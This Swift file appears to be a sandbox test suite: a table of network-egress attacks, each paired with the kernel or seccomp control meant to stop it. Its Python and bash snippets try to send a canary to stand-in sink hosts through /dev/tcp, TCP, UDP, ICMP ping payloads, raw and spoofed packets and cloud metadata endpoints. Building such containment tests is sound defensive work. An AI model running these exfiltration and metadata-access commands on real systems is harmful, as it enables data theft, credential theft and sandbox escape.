extension AttackTable {
  /// Sockets of every kind, straight to the outside.
  static let network: [Attack] = [
    Attack(
      id: "direct-tcp", path: .tunnel, title: "TCP to outside addresses, IPv4 and IPv6",
      closedBy: "own network namespace (kernel)", provesControls: [.networkNamespace], tools: [.python],
      attempts: [
        Attempt(
          "three addresses, four ports", tries: 12,
          .python(
            #"""
            def send(host, port):
                sock = socket.create_connection((host, port), 1)
                sock.sendall(CANARY.encode() + b"\n")
                listen(sock, 0.1)
            for host in (SINK, E["SINK_OTHER"], E["SINK6"]):
                for port in (80, 443, 22, 19555):
                    attempt(send, host, port)
            """#)),
        Attempt(
          "bash alone", tries: 2,
          .bash(
            #"""
            for port in 80 19555; do
              try bash -c 'exec 3<>"/dev/tcp/$0/$1" && echo "$2" >&3' "$SINK" "$port" "$CANARY"
            done
            """#)),
      ]),
    Attack(
      id: "direct-udp", path: .tunnel, title: "UDP: outside addresses, broadcast, multicast",
      closedBy: "own network namespace (kernel)", tools: [.python],
      attempts: [
        Attempt(
          "seven destinations", tries: 7,
          .python(
            #"""
            def send(host, port):
                sock = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM)
                if ":" not in host:
                    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                sock.sendto(CANARY.encode(), (host, port))
            for host, port in ((SINK, 19555), (SINK, 443), (E["SINK_OTHER"], 123), (E["SINK6"], 19555),
                               ("255.255.255.255", 67), ("224.0.0.251", 5353), ("203.0.113.77", 4500)):
                attempt(send, host, port)
            """#))
      ]),
    Attack(
      id: "host-loopback", path: .tunnel, title: "a service on the host's own loopback",
      closedBy: "own network namespace (kernel), IP literals refused (gateway)", tools: [.python, .curl],
      attempts: [
        Attempt(
          "directly", tries: 2,
          .python(
            #"""
            def send(host):
                sock = socket.create_connection((host, 19555), 1)
                sock.sendall(CANARY.encode() + b"\n")
                listen(sock, 0.1)
            attempt(send, "127.0.0.1")
            attempt(send, "::1")
            """#)),
        Attempt(
          "through the proxy", tries: 3,
          .bash(
            #"""
            for host in 127.0.0.1 localhost '[::1]'; do
              proxied --noproxy '' "http://$host:19555/$CANARY"
            done
            """#)),
      ]),
    Attack(
      id: "link-local-metadata", path: .tunnel, title: "cloud metadata and link-local addresses",
      closedBy: "own network namespace (kernel), IP literals refused (gateway)", tools: [.curl, .python],
      attempts: [
        Attempt(
          "directly", tries: 3,
          .bash(
            #"""
            direct "http://169.254.169.254/latest/meta-data/$CANARY"
            direct "http://[fd00:ec2::254]/latest/$CANARY"
            try python3 -c 'import socket, sys
            s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
            s.sendto(sys.argv[1].encode(), ("fe80::2", 19555, 0, 1))' "$CANARY"
            """#)),
        Attempt(
          "through the proxy", tries: 4,
          .bash(
            #"""
            proxied --noproxy '' "http://169.254.169.254/latest/meta-data/$CANARY"
            proxied --noproxy '' -p "http://169.254.169.254/latest/meta-data/$CANARY"
            proxied --noproxy '' "http://metadata.google.internal/$CANARY"
            proxied --noproxy '' "http://0xa9fea9fe/$CANARY"
            """#)),
      ]),
    Attack(
      id: "icmp", path: .tunnel, title: "secret in the payload of a ping",
      closedBy: "no ICMP socket (seccomp, capabilities)", tools: [.ping, .python],
      attempts: [
        Attempt(
          "ping and ICMP sockets", tries: 4,
          .python(
            #"""
            import struct, subprocess
            def checksum(data):
                total = sum(struct.unpack(">%dH" % (len(data) // 2), data))
                total = (total & 0xFFFF) + (total >> 16)
                return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
            def echo(kind):
                sock = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
                body = CANARY.encode()
                packet = struct.pack(">BBHHH", 8, 0, 0, 1, 1) + body
                packet = struct.pack(">BBHHH", 8, 0, checksum(packet), 1, 1) + body
                sock.sendto(packet, (SINK, 0))
            attempt(echo, socket.SOCK_RAW)
            attempt(echo, socket.SOCK_DGRAM)
            for host in (SINK, E["SINK6"]):
                attempt(subprocess.run, ["ping", "-c1", "-W1", "-p", CANARY.encode().hex()[:32], host], timeout=4)
            """#))
      ]),
    Attack(
      id: "raw-sockets", path: .tunnel, title: "frames, spoofed packets and unusual protocols",
      closedBy: "sockets of listed kinds only (seccomp), no capabilities", tools: [.python],
      attempts: [
        Attempt(
          "packet and raw sockets", tries: 4,
          .python(
            #"""
            import struct
            def datagram():
                body = CANARY.encode()
                udp = struct.pack(">HHHH", 4000, 19555, 8 + len(body), 0) + body
                head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 7, 0, 64, 17, 0,
                                   socket.inet_aton("203.0.113.1"), socket.inet_aton(SINK))
                return head + udp
            def spoofed():
                sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
                sock.sendto(datagram(), (SINK, 0))
            def protocol(number):
                socket.socket(socket.AF_INET, socket.SOCK_RAW, number).sendto(CANARY.encode(), (SINK, 0))
            def frame():
                sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM)
                sock.sendto(datagram(), ("lo", 0x0800, 0, 0, b"\0" * 6))
            attempt(spoofed)
            attempt(protocol, 253)
            attempt(protocol, 47)
            attempt(frame)
            """#)),
        Attempt(
          "multipath TCP", tries: 1,
          .python(
            #"""
            def send():
                try:
                    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
                except OSError as error:
                    absent(f"no multipath TCP here: {error}")
                sock.connect((SINK, 19555))
                sock.sendall(CANARY.encode())
            attempt(send)
            """#)),
        Attempt(
          "sockets between virtual machines", tries: 1,
          .python(
            #"""
            try:
                socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
                gained()
            except OSError as error:
                absent(f"no AF_VSOCK here: {error}")
            """#), secret: .reward, evidence: [.output]),
      ]),
    Attack(
      id: "new-interface", path: .tunnel, title: "an interface, an address or a route of one's own",
      closedBy: "no capabilities over the network namespace (kernel)", tools: [.ip],
      attempts: [
        Attempt(
          "interface, address, route", tries: 4,
          .bash(
            #"""
            ip address add 203.0.113.99/32 dev lo && gained && ip address del 203.0.113.99/32 dev lo
            ip route add 203.0.113.0/25 dev lo && gained && ip route del 203.0.113.0/25 dev lo
            ip link add drill0 type bridge && gained && ip link del drill0
            ip link add drill1 type veth peer name drill2 && gained && ip link del drill1
            """#), secret: .reward, evidence: [.output])
      ]),
  ]
}
